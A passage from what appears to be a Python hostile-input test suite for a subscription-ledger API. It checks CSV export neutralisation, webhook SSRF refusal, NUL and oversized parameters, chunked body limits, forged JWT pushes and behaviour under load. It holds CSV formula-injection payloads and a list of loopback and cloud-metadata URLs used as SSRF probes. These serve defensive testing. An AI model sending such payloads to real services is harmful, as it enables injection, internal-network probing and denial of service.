    "\r=1+1 (carriage return)",
]
CSV_DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
CSV_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def append_with_fallback(ev, fallbacks):
    """Appends `ev`; when refused with 422 on a field in `fallbacks` (identifier rules), that field takes its safe
    value and the event is tried again. Returns (response, the fields that kept their hostile value)."""
    kept = set(fallbacks)
    for _ in range(len(fallbacks) + 1):
        r = request("POST", "/v1/events", ev, role="writer")
        if r.status != 422:
            return r, kept
        _, _, field = r.err
        hit = next((f for f in fallbacks if field and f in kept and (field == f or field.startswith(f + "[")
                                                                     or field.startswith(f + "."))), None)
        if hit is None:
            return r, kept
        kept.discard(hit)
        obj, parts = ev, hit.split(".")
        for p in parts[:-1]:
            obj = obj[p]
        obj[parts[-1]] = fallbacks[hit]
    return r, kept


def csv_cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@case("csv: exported cells never start a formula; JSON keeps the values verbatim")
def _csv_formulas():
    raw = {"events.csv": set(), "windows.csv": set()}   # hostile values stored in a cell of their own
    stored = []                                         # (subscriber, payload, event kept fields)
    for i, p in enumerate(FORMULAS):
        sub = f"hostile-csv-credit-{i}"
        ev = credit(sub, p, reason=p, granted_by=p, entitlement=p, metadata={"note": p, "nested": {"v": [p]}})
        r, kept = append_with_fallback(ev, {"idempotency_key": f"hostile-csv-credit-{i}", "data.entitlement": "pro"})
        expect_status(r, 201, f"credit carrying {p!r}: ")
        if "idempotency_key" in kept:
            raw["events.csv"].add(p)
        if "data.entitlement" in kept:
            raw["windows.csv"].add(p)
        stored.append((sub, p, kept))
        sub = f"hostile-csv-purchase-{i}"
        ev = purchase(sub, key=sub, product_id=p, txn=p, entitlements=[p])
        ev["metadata"] = {"note": p}
        r, kept = append_with_fallback(ev, {"data.product_id": "pro.monthly", "data.transaction_id": sub,
                                            "data.entitlements": ["pro"]})
        expect_status(r, 201, f"purchase carrying {p!r}: ")
        for f in ("data.product_id", "data.transaction_id", "data.entitlements"):
            if f in kept:
                raw["windows.csv"].add(p)
    problems = []
    # JSON reads return the values verbatim.
    for sub, p, kept in stored:
        evs = stream(sub)
        if len(evs) != 1:
            problems.append(f"{sub}: {len(evs)} events"); continue
        e = evs[0]
        got = [e["data"].get("reason"), e["data"].get("granted_by"), e.get("metadata", {}).get("note"),
               e.get("metadata", {}).get("nested", {}).get("v", [None])[0]]
        if "idempotency_key" in kept:
            got.append(e.get("idempotency_key"))
        if "data.entitlement" in kept:
            got.append(e["data"].get("entitlement"))
        if any(g != p for g in got):
            problems.append(f"{sub}: the JSON read changed {p!r}: {got!r}")
    for name, path in (("events.csv", "/v1/exports/events.csv?from=2020-01-01T00:00:00Z&to=2030-01-01T00:00:00Z"),
                       ("windows.csv", "/v1/exports/windows.csv")):
        r = request("GET", path, role="auditor", timeout=60)
        if r.status != 200:
            problems.append(f"{name} answered {r.brief()}"); continue
        cells = csv_cells(r.body.decode("utf-8"))
        bad = [c for c in cells if c.startswith(CSV_DANGEROUS) and not CSV_PLAIN_NUMBER.fullmatch(c)]
        if bad:
            problems.append(f"{name}: {len(bad)} cells start a formula, e.g. {sorted(set(bad))[:3]!r}")
        cellset = set(cells)
        missing = [p for p in sorted(raw[name]) if "'" + p not in cellset]
        if missing:
            problems.append(f"{name}: no neutralised cell \"'\" + value for {missing!r}")
        say(f"csv: {name}: {len(cells)} cells, {len(bad)} starting a formula; {len(raw[name]) - len(missing)} of "
            f"{len(raw[name])} hostile values stored in a cell of their own came back neutralised")
    if problems:
        raise Check("; ".join(problems))


# 4. Chunked bodies above --max-body-bytes on every route that reads a body.
EXPECT_CHUNKED = [
    ("POST", "/v1/events", "writer"),
    ("PUT", "/v1/catalog/products/x", "admin"),
    ("POST", "/v1/stores/apple/notifications", "writer"),
    ("POST", "/v1/stores/apple/receipts", "writer"),
] + ([("POST", "/v1/stores/stripe/webhooks", "writer")] if HAS_STRIPE else [])  # read before its signature is checked


def send_chunked(method, path, role, total):
    """Sends `total` bytes with Transfer-Encoding: chunked, stopping early once the server answers."""
    c = http.client.HTTPConnection("127.0.0.1", PORT, timeout=REQUEST_TIMEOUT)
    t = time.monotonic()
    try:
        c.putrequest(method, path, skip_accept_encoding=True)
        c.putheader("Authorization", f"Bearer {KEYS[role]}")
        c.putheader("Content-Type", "application/json")
        c.putheader("Transfer-Encoding", "chunked")
        c.endheaders()
        filler = b'{"pad": "' + b"a" * (CHUNK_BYTES - 9)
        sent = 0
        while sent < total:
            if select.select([c.sock], [], [], 0)[0]:
                break  # the server answered (or closed) before the whole body
            chunk = filler if sent == 0 else b"a" * CHUNK_BYTES
            try:
                c.send(b"%x\r\n" % len(chunk) + chunk + b"\r\n")
            except OSError:
                break
            sent += len(chunk)
        else:
            try:
                c.send(b'2\r\n"}\r\n0\r\n\r\n')  # close the JSON string and end the body
            except OSError:
                pass
        r = c.getresponse()
        data = r.read()
        return Resp(r.status, dict((k.lower(), v) for k, v in r.getheaders()), data, time.monotonic() - t)
    except (OSError, http.client.HTTPException) as e:
        return Resp(None, elapsed=time.monotonic() - t, error=f"{type(e).__name__}: {e}")
    finally:
        c.close()


def chunked_case(method, path, role):
    def run():
        for _attempt in range(3):  # a reset can beat the answer to the client; try again before failing
            r = send_chunked(method, path, role, CHUNKED_BODY_BYTES)
            if r.status is not None:
                break
        expect_error(r, 413, "payload_too_large")
    return run


for _m, _p, _r in EXPECT_CHUNKED:
    case(f"chunked: {CHUNKED_BODY_BYTES >> 20} MiB chunked {_m} {_p} is 413")(chunked_case(_m, _p, _r))


# 5. Metrics: a refused request is counted with its own status, never as a 500.
def counters():
    """{sample line without value: value} of every counter family in /metrics."""
    r = request("GET", "/metrics")
    if r.status != 200:
        raise Check(f"/metrics answered {r.brief()}")
    kinds, out = {}, {}
    for line in r.body.decode("utf-8", "replace").splitlines():
        if line.startswith("# TYPE "):
            parts = line.split()
            if len(parts) >= 4:
                kinds[parts[2]] = parts[3]
        elif line and not line.startswith("#"):
            sample, _, value = line.rpartition(" ")
            name = re.match(r"[A-Za-z_:][A-Za-z0-9_:]*", sample)
            base = name.group(0) if name else ""
            if kinds.get(base) == "counter" or kinds.get(re.sub(r"_total$", "", base)) == "counter":
                try:
                    out[sample] = float(value)
                except ValueError:
                    pass
    return out


@case("metrics: a 403 is counted as 403, not as 500")
def _metrics():
    before = counters()
    r = request("GET", "/v1/reports/mrr?at=2026-03-15T00:00:00Z", role="reader")
    expect_error(r, 403, "forbidden")
    rose403, rose500 = [], []
    for _ in range(20):  # the counter is updated after the body is written
        time.sleep(0.1)
        after = counters()
        rose = [k for k, v in after.items() if v > before.get(k, 0)]
        rose403 = [k for k in rose if '"403"' in k and "reports/mrr" in k]
        rose500 = [k for k in rose if '"500"' in k]
        if rose403 or rose500:
            break
    say(f"metrics: rose with the 403: {rose403 or 'nothing'}")
    if rose500:
        raise Check(f"a 500 counter rose: {rose500}")
    if not rose403:
        raise Check("no counter with \"403\" for /v1/reports/mrr rose")


@case("metrics: a body cut short by the client is counted as 499, not as 500")
def _metrics_cut_short():
    before = counters()
    for head in ("Content-Length: 1000\r\n", "Transfer-Encoding: chunked\r\n"):
        with socket.create_connection(("127.0.0.1", PORT), timeout=REQUEST_TIMEOUT) as s:
            s.sendall(f"POST /v1/events HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {KEYS['writer']}\r\n"
                      f"Content-Type: application/json\r\n{head}\r\n".encode()
                      + (b"40\r\n" if "chunked" in head else b"") + b'{"events": [{"sub')
            time.sleep(0.2)
    rose499, rose500 = [], []
    for _ in range(30):  # the counter is updated after the answer is written (or fails to be)
        time.sleep(0.1)
        after = counters()
        rose = [k for k, v in after.items() if v > before.get(k, 0)]
        rose499 = [k for k in rose if '"499"' in k and "/v1/events" in k]
        rose500 = [k for k in rose if '"500"' in k]
        if rose500 or sum(after[k] - before.get(k, 0) for k in rose499) >= 2:
            break
    if rose500:
        raise Check(f"a 500 counter rose: {rose500}")
    if not rose499:
        raise Check("no counter with \"499\" for /v1/events rose")


# 6. NUL bytes and oversized parameters: 400 invalid_request naming the parameter.
NUL_ENTITLEMENT = "a%00b"
LONG_ENTITLEMENT = "e" * 300
EXPECT_PARAMS = [
    ("GET", f"/v1/reports/mrr?at=2026-03-15T00:00:00Z&entitlement={NUL_ENTITLEMENT}", "analyst", 400, "invalid_request", ["entitlement"]),
    ("GET", f"/v1/reports/churn?from=2026-01-01&to=2026-06-01&entitlement={NUL_ENTITLEMENT}", "analyst", 400, "invalid_request", ["entitlement"]),
    ("GET", f"/v1/reports/revenue?from=2026-01-01&to=2026-06-01&entitlement={NUL_ENTITLEMENT}", "analyst", 400, "invalid_request", ["entitlement"]),
    ("GET", f"/v1/reports/trials?from=2026-01-01&to=2026-06-01&entitlement={NUL_ENTITLEMENT}", "analyst", 400, "invalid_request", ["entitlement"]),
    ("GET", f"/v1/reports/retention?from=2026-01-01&to=2026-06-01&entitlement={NUL_ENTITLEMENT}", "analyst", 400, "invalid_request", ["entitlement"]),
    ("GET", "/v1/catalog/products/a%00b", "admin", 400, "invalid_request", ["product_id"]),
    ("GET", "/v1/subscribers/a%00b/entitlements", "reader", 400, "invalid_request", ["subscriber_id"]),
    ("GET", "/v1/subscribers/a%00b/windows", "reader", 400, "invalid_request", ["subscriber_id"]),
    ("GET", f"/v1/reports/mrr?at=2026-03-15T00:00:00Z&entitlement={LONG_ENTITLEMENT}", "analyst", 400, "invalid_request", ["entitlement"]),
    ("GET", f"/v1/reports/churn?from=2026-01-01&to=2026-06-01&entitlement={LONG_ENTITLEMENT}", "analyst", 400, "invalid_request", ["entitlement"]),
]


def param_case(method, path, role, status, code, names):
    def run():
        expect_error(request(method, path, role=role), status, code, names)
    return run


for _m, _p, _role, _s, _c, _n in EXPECT_PARAMS:
    _shown = _p.replace(LONG_ENTITLEMENT, f"<{len(LONG_ENTITLEMENT)} chars>")
    case(f"params: {_m} {_shown} is {_s}")(param_case(_m, _p, _role, _s, _c, _n))


# 7. Unicode look-alikes: NFC and NFD spellings of one id never make two things.
CAFE_NFC = unicodedata.normalize("NFC", "café")
CAFE_NFD = unicodedata.normalize("NFD", "café")
LOOKALIKE_REFUSED = (400, 422)      # the NFD spelling may be refused...
LOOKALIKE_RULE_WORDS = ("product_id", "nfc", "normali", "identifier")
IDEMPOTENT_NFD = (200, 422)         # ... or be the same thing (a replay for events)


@case("lookalike: NFC and NFD product ids are one product")
def _lookalike_product():
    r = request("PUT", f"/v1/catalog/products/{q(CAFE_NFC)}", PRODUCT, role="admin")
    expect_status(r, 200, "PUT of the NFC id: ")
    r = request("PUT", f"/v1/catalog/products/{q(CAFE_NFD)}", PRODUCT, role="admin")
    if r.status in LOOKALIKE_REFUSED:
        _, m, f = r.err
        if not any(w in f"{m} {f}".lower() for w in LOOKALIKE_RULE_WORDS):
            raise Check(f"the NFD id was refused without naming the identifier rule: {r.brief()}")
    elif r.status != 200:
        raise Check(f"PUT of the NFD id answered {r.brief()}")
    lst = request("GET", "/v1/catalog/products", role="admin")
    expect_status(lst, 200, "GET /v1/catalog/products: ")
    cafes = [p["product_id"] for p in lst.json.get("products", [])
             if unicodedata.normalize("NFC", p.get("product_id", "")) == CAFE_NFC]
    if len(cafes) != 1:
        raise Check(f"the catalog lists {len(cafes)} cafés: {[c.encode() for c in cafes]}")


@case("lookalike: NFC and NFD idempotency keys are not two events")
def _lookalike_key():
    sub = "hostile-nfc"
    r = request("POST", "/v1/events", credit(sub, f"order-{CAFE_NFC}"), role="writer")
    expect_status(r, 201, "the NFC key: ")
    r = request("POST", "/v1/events", credit(sub, f"order-{CAFE_NFD}"), role="writer")
    expect_status(r, IDEMPOTENT_NFD, "the NFD key (refused or a replay): ")
    n = len(stream(sub))
    if n != 1:
        raise Check(f"{n} events stored for one key spelled two ways")


# 10. App Store: a notification signed by a leaf that expired before the transaction it vouches for.
@case("apple: a notification signed by an expired leaf is 422 invalid_signature")
def _apple_expired_leaf():
    if not HAS_LEAF_NOT_AFTER:
        return "skip apple-expired-leaf (no --leaf-not-after)"
    if "--apple-root-cert" not in server.extra:
        raise Check(f"could not create the test CA in {APPLE_CA}")
    expect_status(request("PUT", "/v1/catalog/products/hostile.apple", PRODUCT, role="admin"), 200, "catalog PUT: ")
    # Control: a notification signed by the CA's ordinary leaf, dated yesterday, is applied; so a refusal below
    # is about the expired leaf, not an untrusted root.
    day = 86400
    iso = lambda t: time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t))
    control = apple_cli("--type", "SUBSCRIBED", "--subtype", "INITIAL_BUY", "--transaction-id", "7000",
                        "--product-id", "hostile.apple", "--purchase-date", iso(time.time() - day),
                        "--expires-date", iso(time.time() + 29 * day),
                        "--app-account-token", "0c6b1f0e-5a4d-4c3b-9a2f-1e0d9c8b7a60")
    if control.returncode != 0:
        raise Check(f"apple-test-notification failed: {control.stderr.strip()[:300]}")
    r = request("POST", "/v1/stores/apple/notifications", control.stdout.strip(), role="writer")
    if r.status != 200 or (r.json or {}).get("status") != "applied":
        raise Check(f"the control notification (ordinary leaf, dated yesterday) was not applied: {r.brief()}")
    who = "6b0c1f0e-5a4d-4c3b-9a2f-1e0d9c8b7a61"
    leaf = ["--leaf-not-after", "2021-01-01T00:00:00Z"]
    if "--leaf-not-before" in APPLE_HELP:
        leaf = ["--leaf-not-before", "2020-01-01T00:00:00Z"] + leaf
    p = apple_cli("--type", "SUBSCRIBED", "--subtype", "INITIAL_BUY", "--transaction-id", "7001",
                  "--product-id", "hostile.apple", "--purchase-date", "2026-11-01T00:00:00Z",
                  "--expires-date", "2026-12-01T00:00:00Z", "--signed-date", "2020-06-01T00:00:00Z",
                  "--app-account-token", who, *leaf)
    if p.returncode != 0:
        raise Check(f"apple-test-notification failed: {p.stderr.strip()[:300]}")
    r = request("POST", "/v1/stores/apple/notifications", p.stdout.strip(), role="writer")
    expect_error(r, 422, "invalid_signature")
    n = len(stream(who))
    if n:
        raise Check(f"{n} events stored from a refused notification")


# 11. Webhook destinations: a non-public address in any spelling is refused at registration (422 on url),
# and so is a numeric host that resolvers read differently (docs/webhooks.md, "Safety").
WEBHOOK_REFUSED_URLS = [
    "https://127.0.0.1/", "https://127.1/", "https://2130706433/", "https://0x7f000001/", "https://0177.0.0.1/",
    "https://0000000000000177.0.0.1/", "https://127.000.000.001/", "https://169.254.169.254/latest/meta-data",
    "https://[::1]/", "https://[::ffff:127.0.0.1]/", "https://[::ffff:0:127.0.0.1]/", "https://[::127.0.0.1]/",
    "https://[64:ff9b::7f00:1]/", "https://[64:ff9b:1::7f00:1]/", "https://[2002:7f00:1::1]/", "https://[2002:a9fe:a9fe::]/",
    "https://[100::1]/", "https://[2001::1]/", "https://[2001:db8::1]/", "https://[fd00::1]/", "https://[fe80::1]/",
    "https://[fe80::1%25eth0]/", "https://[example.com]/", "https://%31%32%37.0.0.1/", "https://localhost/",
]


@case(f"webhooks: {len(WEBHOOK_REFUSED_URLS)} non-public or ambiguous destinations are 422 on url, in POST and PATCH")
def _webhook_destinations():
    def refused(method, path):
        for url in WEBHOOK_REFUSED_URLS:
            r = request(method, path, {"url": url}, role="admin")
            expect_error(r, 422, "invalid_request", what=f"{method} {url}: ")
            if r.err[2] != "url":
                raise Check(f"{method} {url}: the error's field is {r.err[2]!r}, not 'url'")
    refused("POST", "/v1/webhooks")
    created = request("POST", "/v1/webhooks", {"url": "https://hooks.example.com/hostile"}, role="admin")
    expect_status(created, 201, "POST https://hooks.example.com/hostile: ")
    wid = created.json["id"]
    try:
        refused("PATCH", f"/v1/webhooks/{wid}")
    finally:
        request("DELETE", f"/v1/webhooks/{wid}", role="admin")


# 12. Google: the token endpoint answers an access token with CR LF (an invalid header, and a secret).
@case("google: an access token with CR LF is in no answer nor log, and is asked for again")
def _google_bad_access_token():
    if not STAND_IN_URL:
        return "skip google-access-token (no --google-oidc-jwks or no openssl)"
    body = {"subscriber_id": "hostile-google", "package_name": GOOGLE_PACKAGE, "product_id": "pro.monthly",
            "purchase_token": "tok-hostile"}
    for i in (1, 2):
        before = STAND_IN_COUNTS["token"]
        r = request("POST", "/v1/stores/google/purchases", body, role="writer", timeout=30)
        if STORE_SECRET.encode() in r.body:
            raise Check(f"submission {i}: the answer carries the access token: {r.brief()}")
        if r.status != 503:
            raise Check(f"submission {i}: expected 503 unavailable, got {r.brief()}")
        if STAND_IN_COUNTS["token"] <= before:
            raise Check(f"submission {i} did not ask the token endpoint: the refused token was kept")
    if STORE_SECRET in server.tail(100000):
        raise Check("the server log carries the access token")


# 12. Google: pushes with made-up tokens before any JWKS fetch succeeded.
@case(f"google: {JWKS_PUSHES} concurrent pushes while the JWKS fails make at most {JWKS_MAX_FETCHES} fetches")
def _google_jwks_amplification():
    if not STAND_IN_URL:
        return "skip google-jwks (no --google-oidc-jwks or no openssl)"
    b64 = lambda b: base64.urlsafe_b64encode(b).rstrip(b"=").decode()
    now = int(time.time())
    token = ".".join([b64(json.dumps({"alg": "RS256", "kid": "hostile-kid", "typ": "JWT"}).encode()),
                      b64(json.dumps({"iss": "https://accounts.google.com", "aud": GOOGLE_AUDIENCE, "email": GOOGLE_PUSHER,
                                      "email_verified": True, "iat": now, "exp": now + 3600}).encode()),
                      b64(b"\x01" * 256)])
    note = {"version": "1.0", "packageName": GOOGLE_PACKAGE, "eventTimeMillis": str(now * 1000),
            "testNotification": {"version": "1.0"}}
    push = {"message": {"data": base64.b64encode(json.dumps(note).encode()).decode(), "messageId": "hostile-jwks",
                        "publishTime": "2026-03-01T10:00:00Z"}, "subscription": "projects/hostile/subscriptions/play"}
    before = STAND_IN_COUNTS["jwks"]
    answers = [None] * JWKS_PUSHES

    def one(i):
        answers[i] = request("POST", "/v1/stores/google/notifications", push, headers={"Authorization": f"Bearer {token}"},
                             timeout=30)
    threads = [threading.Thread(target=one, args=(i,)) for i in range(JWKS_PUSHES)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    statuses = collections.Counter(a.status for a in answers)
    fetches = STAND_IN_COUNTS["jwks"] - before
    if fetches > JWKS_MAX_FETCHES:
        raise Check(f"{fetches} JWKS fetches for {JWKS_PUSHES} pushes")
    if statuses != {401: JWKS_PUSHES}:
        raise Check(f"expected {JWKS_PUSHES} x 401, got {dict(statuses)}")


# 13. App Store: an API whose history says hasMore with the same token forever.
@case("apple: backfill and sync against an API repeating its pagination token end with an error")
def _apple_endless_pages():
    if not STAND_IN_URL or not APPLE_API_ARGS:
        return "skip apple-pages (no --google-oidc-jwks or no openssl)"
    since = time.strftime("%Y-%m-%d", time.gmtime(time.time() - 86400))
    for cmd in (["apple", "backfill", "--since", since],
                ["apple", "sync", "--original-transaction-id", "1000", "--subscriber", "hostile-apple-sync"]):
        before = STAND_IN_COUNTS["apple"]
        try:
            p = subprocess.run([args.bin, *cmd, "--database-url", args.url, *APPLE_API_ARGS], capture_output=True, text=True,
                               timeout=PAGES_SECONDS)
        except subprocess.TimeoutExpired:
            raise Check(f"{' '.join(cmd[:2])} still ran after {PAGES_SECONDS}s ({STAND_IN_COUNTS['apple'] - before} requests)")
        n = STAND_IN_COUNTS["apple"] - before
        said = (p.stdout + p.stderr).strip()
        if p.returncode == 0:
            raise Check(f"{' '.join(cmd[:2])} succeeded after {n} requests: {said[-300:]}")
        if "pagination token" not in said:
            raise Check(f"{' '.join(cmd[:2])} does not say why it stopped: {said[-300:]}")
        if not 2 <= n <= PAGES_MAX_REQUESTS:
            raise Check(f"{' '.join(cmd[:2])} made {n} requests (2 to {PAGES_MAX_REQUESTS} expected)")


# 9. Load: hostile connections next to /health and ordinary appends.
def percentile(values, p):
    s = sorted(values)
    return s[max(0, math.ceil(p * len(s)) - 1)] if s else float("nan")


def load_worker(port, keys, seconds, connections, out, answered, halt, stretch):
    """In a child process: `connections` threads sending hostile requests until `halt` is set (at most `seconds`);
    puts a status histogram. Sets `answered` once every connection's first request has an outcome (the opening
    burst is over). On a machine `stretch` times slower than the reference one, each connection pauses
    (stretch - 1) times its last request's duration before the next: every connection stays open, and the server
    is asked for the same share of its capacity as on the reference machine."""
    signal.signal(signal.SIGTERM, signal.SIG_DFL)  # the parent's handler would stop the server from here
    threading.stack_size(512 * 1024)
    deadline = time.monotonic() + seconds
    oversized = b'{"pad": "' + b"a" * (MAX_BODY_BYTES + 4096) + b'"}'
    ents = [f"e{i:02d}" for i in range(MAX_ENTITLEMENTS)]
    mix = ["oversized", "ents64", "nul", "churn-range", "ents64", "revenue-range", "nul-sub"]
    counts, lock, heavy, first = collections.Counter(), threading.Lock(), [], [0]

    def build(kind, n, i):
        auth = lambda role: {"Authorization": f"Bearer {keys[role]}", "Content-Type": "application/json"}
        if kind == "oversized":
            return "POST", "/v1/events", oversized, auth("writer")
        if kind == "ents64":
            sub = f"hostile-load-{n}-{i}"
            ev = {"subscriber_id": sub, "type": "purchase", "occurred_at": "2026-03-01T10:00:00Z", "source": "hostile",
                  "environment": "production", "idempotency_key": sub,
                  "data": dict(PURCHASE_DATA, entitlements=ents, transaction_id=sub)}
            return "POST", "/v1/events", json.dumps(ev).encode(), auth("writer")
        if kind == "nul":
            return "GET", f"/v1/reports/mrr?at=2026-03-15T00:00:00Z&entitlement={NUL_ENTITLEMENT}", None, auth("analyst")
        if kind == "nul-sub":
            return "GET", "/v1/subscribers/a%00b/entitlements", None, auth("reader")
        if kind == "churn-range":
            return "GET", "/v1/reports/churn?from=2000-01-01&to=2030-01-01&interval=day", None, auth("analyst")
        return "GET", "/v1/reports/revenue?from=2000-01-01&to=2030-01-01&interval=day", None, auth("analyst")

    def run(n):
        conn, i = None, 0
        while time.monotonic() < deadline and not halt.is_set():
            kind = mix[(n + i) % len(mix)]
            method, path, body, headers = build(kind, n, i)
            i += 1
            t0 = time.monotonic()
            try:
                if conn is None:
                    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=LOAD_REQUEST_TIMEOUT * stretch)
                conn.request(method, path, body=body, headers=headers)
                r = conn.getresponse(); r.read()
                status = r.status
                if kind == "ents64" and status == 201:
                    with lock:
                        heavy.append(time.monotonic() - t0)
                if r.will_close:
                    conn.close(); conn = None
            except (OSError, http.client.HTTPException) as e:
                status = f"{kind}:{type(e).__name__}"
                if conn is not None:
                    conn.close()
                conn = None
            with lock:
                counts[status] += 1
                if i == 1:
                    first[0] += 1
                    if first[0] == connections:
                        answered.set()
            if stretch > 1:
                time.sleep(min((stretch - 1) * (time.monotonic() - t0), max(0.0, deadline - time.monotonic())))
        if conn is not None:
            conn.close()

    threads = []
    for n in range(connections):
        t = threading.Thread(target=run, args=(n,), daemon=True)
        try:
            t.start()
        except RuntimeError:
            break
        threads.append(t)
    for t in threads:
        t.join(timeout=max(0.1, deadline - time.monotonic() + LOAD_REQUEST_TIMEOUT * stretch + 2))
    with lock:
        out.put({"threads": len(threads), "counts": {str(k): v for k, v in counts.items()},
                 "heavy_median": statistics.median(heavy) if heavy else 0.0, "heavy": len(heavy)})


# Issue 32: outbound webhooks must not stall. One subscriber with hundreds of events (each message once folded
# its whole history again) and 20 others whose messages the receiver fails one in five at random (a failure
# once held the whole stream): everything arrives, each subscriber's messages in order, while /health answers. A second `serve` on another
# port allows the local receiver (http, loopback); the main one keeps the default destination policy.
HOOK_BIG_EVENTS = 400          # events of one subscriber
HOOK_OTHER_EVENTS = 200        # over HOOK_OTHER_SUBSCRIBERS others
HOOK_OTHER_SUBSCRIBERS = 20
HOOK_SECONDS = 60              # all delivered within this
HOOK_HEALTH_MAX = 1.0          # seconds, /health while delivering


@case(f"webhooks: {HOOK_BIG_EVENTS} events of one subscriber, 20 others failing 1 in 5 — all arrive in order within {HOOK_SECONDS}s")
def _webhooks_no_stall():
    import http.server, random as _random
    got, lock, rnd = [], threading.Lock(), _random.Random(32)

    class Hook(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *a):
            pass

        def do_POST(self):
            body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
            ev = json.loads(body)["data"]["event"]
            # The big subscriber is answered at once: its cost is the message's, not a chain of retries (a
            # subscriber's messages wait behind its own failures, by design).
            with lock:
                fail = ev["subscriber_id"] != "hostile-hook-big" and rnd.random() < 0.2
            if not fail:
                with lock:
                    got.append((ev["position"], ev["subscriber_id"]))
            self.send_response(500 if fail else 204)
            self.send_header("Content-Length", "0")
            self.end_headers()

    hook = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hook)
    threading.Thread(target=hook.serve_forever, daemon=True).start()
    port2 = free_port()
    # A database of its own: the main server's delivery service would otherwise take the endpoint's lease and
    # refuse the loopback receiver under the default policy.
    db = "subledger_hostile_hooks"
    url2 = args.url.rsplit("/", 1)[0] + "/" + db
    admin_url = os.environ["DATABASE_URL"]
    subprocess.run(["psql", "-X", "-q", admin_url, "-c", f"DROP DATABASE IF EXISTS {db} WITH (FORCE)", "-c", f"CREATE DATABASE {db}"],
                   check=True, capture_output=True, timeout=60)
    subprocess.run([args.bin, "migrate", "--database-url", url2], check=True, capture_output=True, timeout=120)

    def key(role):
        out = subprocess.run([args.bin, "keys", "create", "--database-url", url2, "--role", role, "--name", "hooks"],
                             check=True, capture_output=True, text=True, timeout=60)
        return {"Authorization": f"Bearer {out.stdout.strip().splitlines()[-1]}"}

    admin, writer = key("admin"), key("writer")
    log = tempfile.NamedTemporaryFile(prefix="hostile-hooks-", suffix=".log", delete=False)
    proc = subprocess.Popen([args.bin, "serve", "--database-url", url2, "--port", str(port2), "--log-level", "error",
                             "--webhooks-allow-http", "--webhooks-allow-private"], stdout=log, stderr=subprocess.STDOUT)
    endpoint = None
    try:
        for _ in range(300):
            if request("GET", "/health", timeout=1, port=port2).status == 200:
                break
            time.sleep(0.05)
        r = request("POST", "/v1/webhooks", {"url": f"http://127.0.0.1:{hook.server_address[1]}/hook"}, headers=admin, port=port2)
        expect_status(r, 201, "registering the endpoint")
        endpoint = r.json["id"]
        start = ((datetime_now_us() // 1_000_000) - 400 * 86_400)
        evs = []
        for i in range(HOOK_BIG_EVENTS):
            at = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(start + i * 3600))
            evs.append(purchase("hostile-hook-big", key=f"hostile-hook-big-{endpoint}-{i}", period_start=at,
                                period_end=time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(start + i * 3600 + 30 * 86_400))))
        for i in range(HOOK_OTHER_EVENTS):
            evs.append(purchase(f"hostile-hook-{i % HOOK_OTHER_SUBSCRIBERS}", key=f"hostile-hook-other-{endpoint}-{i}"))
        positions = []
        for k in range(0, len(evs), 200):
            r = request("POST", "/v1/events", {"events": evs[k:k + 200]}, headers=writer, timeout=60, port=port2)
            expect_status(r, 201, "appending the webhook case's events")
            positions += [e["position"] for e in r.json["events"]]
        want = set(positions)
        deadline = time.monotonic() + bound(HOOK_SECONDS)
        worst = 0.0
        while time.monotonic() < deadline:
            h = request("GET", "/health", timeout=5, port=port2)
            worst = max(worst, h.elapsed if h.status == 200 else 99)
            with lock:
                arrived = {p for p, _ in got}
            if want <= arrived:
                break
            time.sleep(0.25)
        with lock:
            firsts, seen = [], set()
            for p, sub in got:
                if p in want and p not in seen:
                    seen.add(p); firsts.append((p, sub))
        if not want <= seen:
            raise Check(f"{len(want - seen)} of {len(want)} messages not delivered within {bound(HOOK_SECONDS):.0f}s")
        per = {}
        for p, sub in firsts:
            per.setdefault(sub, []).append(p)
        if any(ps != sorted(ps) for ps in per.values()):
            raise Check("a subscriber's messages arrived out of position order")
        if worst > bound(HOOK_HEALTH_MAX):
            raise Check(f"/health took {worst:.2f}s while delivering (at most {bound(HOOK_HEALTH_MAX):.2f}s)")
    finally:
        if endpoint:
            request("DELETE", f"/v1/webhooks/{endpoint}", headers=admin, port=port2)
        proc.terminate()
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proc.kill(); proc.wait()
        hook.shutdown()
        os.unlink(log.name)
        subprocess.run(["psql", "-X", "-q", admin_url, "-c", f"DROP DATABASE IF EXISTS {db} WITH (FORCE)"], capture_output=True, timeout=60)


def datetime_now_us():
    return int(time.time() * 1_000_000)


def ordinary_append(tag, i):
    sub = f"hostile-ordinary-{tag}-{i}"
    return request("POST", "/v1/events", purchase(sub, key=sub), role="writer", timeout=REQUEST_TIMEOUT)


@case(f"load: {LOAD_CONNECTIONS} hostile connections; /health p99 <= {LOAD_HEALTH_P99_MAX:g}s, ordinary appends keep pace")
def _load():
    base = [ordinary_append("base", i) for i in range(LOAD_BASELINE_APPENDS)]
    bad = [r.brief() for r in base if r.status != 201]
    if bad:
        raise Check(f"baseline appends failed: {bad[:3]}")
    base_median = statistics.median(r.elapsed for r in base)
    health_base = [request("GET", "/health", timeout=5).elapsed for _ in range(20)]
    seconds = max(5.0, min(LOAD_SECONDS, DEADLINE - time.monotonic() - 45))
    burst = min(bound(LOAD_BURST_SECONDS), max(0.0, DEADLINE - time.monotonic() - 45 - seconds))

    ctx = multiprocessing.get_context("fork")
    out = ctx.Queue()
    answered, halt = ctx.Event(), ctx.Event()
    worker = ctx.Process(target=load_worker, args=(PORT, KEYS, burst + seconds, LOAD_CONNECTIONS, out, answered, halt,
                                                   STRETCH), daemon=True)
    health, appends, stop = [], [], threading.Event()

    slow_health = []  # (seconds since the load began, seconds taken) of /health answers slower than 1 s

    def measure_health():
        while not stop.is_set():
            t = time.monotonic()
            r = request("GET", "/health", timeout=bound(5))
            health.append(r.elapsed if r.status == 200 else float("inf"))
            if health[-1] > 1.0:
                slow_health.append((round(t - began, 1), round(health[-1], 2)))
            stop.wait(0.05)

    def measure_appends():
        i = 0
        while not stop.is_set():
            appends.append(ordinary_append("load", i)); i += 1
            stop.wait(0.1)

    worker.start()
